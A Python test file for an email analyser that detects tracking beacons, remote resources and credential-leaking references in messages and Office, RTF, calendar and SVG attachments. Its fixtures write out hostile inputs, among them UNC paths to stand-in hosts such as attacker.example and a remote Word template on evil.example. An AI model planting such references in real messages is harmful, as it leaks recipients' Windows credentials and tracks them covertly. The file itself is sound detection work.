"""The beacon analyser on small hand-written messages: codes, severity, evidence, no false positives."""

from __future__ import annotations

from email.message import EmailMessage
from pathlib import Path

from verdict_cases import docx

from inspector.analysis import analyse
from inspector.analysis.common.references import find_references
from inspector.analysis.tracking.beacons import beacon_findings
from inspector.model import Category, Finding, Severity
from inspector.parsing import load, load_bytes

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "beacons"
WATCH = (Category.BEACON, Category.TRACKED_LINK, Category.READ_RECEIPT)


def _findings(name: str) -> list[Finding]:
    return [f for f in beacon_findings(load(FIXTURES / name), None) if f.category in WATCH]


def _codes(findings: list[Finding]) -> dict[str, list[Finding]]:
    out: dict[str, list[Finding]] = {}
    for f in findings:
        out.setdefault(f.code, []).append(f)
    return out


def _all_urls(findings: list[Finding]) -> set[str]:
    return {item["url"] for f in findings for item in f.evidence.get("items", [])} | {f.url for f in findings if f.url}


def test_hidden_pixel_with_encoded_address_is_high() -> None:
    codes = _codes(_findings("pixel_hidden_token.eml"))
    pixels = {f.url: f for f in codes["TRACKING_PIXEL"]}
    hidden = next(f for u, f in pixels.items() if "t.tracker.example" in u)
    assert hidden.severity == Severity.HIGH
    assert hidden.recipient_token["kind"] == "identity"
    assert hidden.recipient_token["identity"] == "alice.example@victim.example"
    assert "identity" in hidden.reveals and "ip_address" in hidden.reveals
    assert any("display:none" in s for s in hidden.evidence["signals"])
    assert "who you are" in hidden.explanation
    tiny = next(f for u, f in pixels.items() if "stats.tracker.example" in u)
    assert tiny.severity == Severity.MEDIUM and tiny.recipient_token["kind"] == "likely_id"
    assert [f.url for f in codes["REMOTE_IMAGE"]] == ["https://www.example.org/logo.png"]


def test_local_images_links_and_text_urls_are_never_beacons() -> None:
    assert _findings("no_beacons.eml") == []
    assert analyse(load(FIXTURES / "no_beacons.eml")).verdict.level.value in ("clean", "caution")


def test_spacers_are_not_pixels() -> None:
    findings = _findings("spacers.eml")
    assert "TRACKING_PIXEL" not in _codes(findings)
    assert {"https://cdn.example.org/img/s.png", "https://cdn.example.org/hero.jpg"} <= _all_urls(findings)


def test_css_link_meta_and_sensor_vectors() -> None:
    findings = _findings("css_vectors.eml")
    codes = _codes(findings)
    for code in ("REMOTE_STYLESHEET", "REMOTE_FONT", "DNS_PREFETCH", "META_REFRESH", "REMOTE_IMAGE"):
        assert code in codes, code
    urls = _all_urls(findings)
    expected = "css.example/import.css css.example/import2.css sensor.example/print.gif sensor.example/fwd.gif"
    for url in (expected + " sensor.example/dark.gif bg.example/div.png").split():
        assert "https://" + url in urls, url
    sensors = {f.evidence.get("sensor") for f in codes["REMOTE_IMAGE"]}
    assert {"dark mode", "printing", "forwarding"} <= sensors
    dark = next(f for f in codes["REMOTE_IMAGE"] if f.evidence.get("sensor") == "dark mode")
    assert "color_scheme" in dark.reveals and "dark mode" in dark.explanation
    assert codes["DNS_PREFETCH"][0].reveals == ("open_time", "dns_resolver")


def test_outlook_vml_in_conditional_comment() -> None:
    (finding,) = _findings("vml_conditional.eml")
    assert finding.vector == "vml:v:fill[src]" and finding.url == "https://vml.example/bg.jpg"
    assert finding.evidence["inside"] == "Outlook conditional comment"


def test_base_href_unc_srcdoc_entities_and_tabs() -> None:
    findings = _findings("base_href_unc.eml")
    codes = _codes(findings)
    (unc,) = codes["UNC_PATH"]
    assert unc.severity == Severity.HIGH and unc.host == "evil.example" and "windows_credentials" in unc.reveals
    urls = _all_urls(findings)
    for url in ("https://base.example/mail/img/header.png", "https://srcdoc.example/x.gif", "https://ent.example/a.png",
                "https://tab.example/b.png"):  # fmt: skip
        assert url in urls, url


def test_read_receipts() -> None:
    codes = _codes(_findings("read_receipt.eml"))
    severities = sorted(f.severity.rank for f in codes["READ_RECEIPT_REQUESTED"])
    assert severities == [Severity.LOW.rank, Severity.MEDIUM.rank]  # the one to another address is worse


def test_every_distinct_remote_url_is_in_some_finding_and_ids_match_the_extractor() -> None:
    for path in FIXTURES.glob("*.eml"):
        message = load(path)
        findings = list(beacon_findings(message, None))
        reported = _all_urls(findings)
        ids = {i for f in findings for item in f.evidence.get("items", []) for i in item["element_ids"]}
        for body in message.html_bodies:
            for ref in find_references(body.text, part=body.part):
                if ref.remote and ref.auto_loads:
                    assert ref.url in reported, (path.name, ref.url)
                    assert ref.ref_id in ids, (path.name, ref.ref_id)


def _message_with(attachment: bytes, filename: str, maintype: str, subtype: str, **headers: str) -> bytes:
    msg = EmailMessage()
    msg["From"] = "a@sender.example"
    msg["To"] = "alice.example@victim.example"
    msg["Subject"] = "attachment"
    for name, value in headers.items():
        msg[name.replace("_", "-")] = value
    msg.set_content("see attachment")
    msg.add_attachment(attachment, maintype=maintype, subtype=subtype, filename=filename)
    return msg.as_bytes()


def test_ooxml_remote_template_unc_and_fields() -> None:
    rels = (
        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
        '<Relationship Id="r2" Type=".../image" Target="file://share.example/x/y.png" TargetMode="External"/>'
        '<Relationship Id="r3" Type=".../hyperlink" Target="https://fine.example/" TargetMode="External"/>'
        "</Relationships>"
    )
    document = '<w:instrText> INCLUDEPICTURE "https://field.example/p.png" \\d </w:instrText>'
    data = _message_with(docx(rels, document), "report.docx", "application",
                         "vnd.openxmlformats-officedocument.wordprocessingml.document")  # fmt: skip
    codes = _codes(list(beacon_findings(load_bytes(data), None)))
    assert codes["REMOTE_TEMPLATE"][0].url == "https://evil.example/t.dotm"
    assert codes["REMOTE_TEMPLATE"][0].severity == Severity.HIGH
    assert codes["UNC_PATH"][0].host == "share.example"
    assert codes["OFFICE_FIELD"][0].host == "field.example"
    assert not any("fine.example" in (f.url or "") for fs in codes.values() for f in fs)


def test_rtf_ics_html_attachments() -> None:
    rtf = b"{\\rtf1{\\*\\template https://rtf.example/t.dot}}"
    assert "REMOTE_TEMPLATE" in _codes(list(beacon_findings(load_bytes(_message_with(rtf, "a.rtf", "application",
                                                                                         "rtf")), None)))  # fmt: skip
    ics = b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;VALUE=URI:\\\\smb.example\\s\\a.wav\r\n"
    ics += b"END:VEVENT\r\nEND:VCALENDAR\r\n"
    unc = _codes(list(beacon_findings(load_bytes(_message_with(ics, "m.ics", "text", "calendar")), None)))
    assert unc["UNC_PATH"][0].host == "smb.example"
    html = b'<html><body><img src="https://att.example/p.gif" width="1" height="1"></body></html>'
    found = list(beacon_findings(load_bytes(_message_with(html, "invoice.html", "text", "html")), None))
    pixel = next(f for f in found if f.code == "TRACKING_PIXEL")
    assert pixel.evidence["attachment"] == "invoice.html" and "attachment" in pixel.explanation


def test_cid_svg_part_is_scanned() -> None:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = "a@s.example", "b@v.example", "svg"
    msg.set_content('<html><body><img src="cid:pic@x"></body></html>', subtype="html")
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://svg-inner.example/i.png"/></svg>'
    msg.add_related(svg, maintype="image", subtype="svg+xml", cid="<pic@x>")
    urls = _all_urls(list(beacon_findings(load_bytes(msg.as_bytes()), None)))
    assert "https://svg-inner.example/i.png" in urls


def test_msg_reminder_unc_property() -> None:
    message = load(FIXTURES / "read_receipt.eml")
    message.extra["reminder_file_parameter"] = "\\\\attacker.example\\share\\ding.wav"
    unc = _codes(list(beacon_findings(message, None)))["UNC_PATH"][0]
    assert unc.severity == Severity.HIGH and unc.vector == "msg:PidLidReminderFileParameter"


def test_json_record_carries_beacon_fields() -> None:
    report = analyse(load(FIXTURES / "pixel_hidden_token.eml"))
    record = next(f.to_dict() for f in report.findings if f.code == "TRACKING_PIXEL")
    for key in ("url", "host", "domain", "vector", "vendor", "recipient_token", "reveals", "element_id", "part"):
        assert key in record, key
    assert record["element_id"].startswith("ei-ref-")


def _html_message(body: str) -> bytes:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = "a@s.example", "b@v.example", "html"
    msg.set_content(body, subtype="html")
    return msg.as_bytes()


def test_quoted_import_svg_paint_and_duplicate_src_reach_the_report() -> None:
    body = (
        '<style>@import url("https://fonts.googleapis.com/css2?family=Product+Sans");</style>'
        '<svg><rect fill="url(https://paint.example/p.svg#g)" stroke="url(#local)"/></svg>'
        '<img src="https://first.example/logo.png" src="https://second.example/logo.png" alt="logo">'
    )
    findings = list(beacon_findings(load_bytes(_html_message(body)), None))
    codes = _codes(findings)
    assert codes["REMOTE_STYLESHEET"][0].host == "fonts.googleapis.com"
    assert codes["REMOTE_STYLESHEET"][0].vector == "css:@import"
    urls = _all_urls(findings)
    assert "https://paint.example/p.svg#g" in urls and "https://first.example/logo.png" in urls
    assert not any("second.example" in u or "local" in u for u in urls)
